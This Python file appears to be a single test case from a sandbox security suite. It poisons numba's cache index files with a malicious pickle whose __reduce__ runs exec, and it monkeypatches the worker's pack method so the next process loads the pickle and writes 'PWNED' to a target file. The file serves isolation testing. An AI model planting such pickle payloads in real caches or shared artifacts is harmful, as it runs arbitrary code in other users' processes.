"""Puts a pickle that runs a command in the place of numba's index, for the next box to load.

row: 44
kind: truth
drive: images
expected: runtime error
control: off, harmed -- the next box of the run loads the pickle, which writes the file
"""

import os
import pickle
import sys

import numba

main = sys.modules["__main__"]


class Evil:
    def __reduce__(self):
        return exec, (f"open({PREY['target']!r}, 'w').write('PWNED')",)


def pack(self, arrangement):
    for folder, _, names in os.walk(self.cache.folder):
        for name in names:
            if name.endswith(".nbi"):
                with open(os.path.join(folder, name), "wb") as file:
                    file.write(pickle.dumps(numba.__version__) + pickle.dumps(Evil()))
    image = self.cache.pack()
    self.outputs[: len(image)] = image
    return str(len(image))


main.Worker.pack = pack


@numba.njit(cache=True)
def scale(x, by, y):
    for i in range(len(x)):
        y[i] = x[i] * by
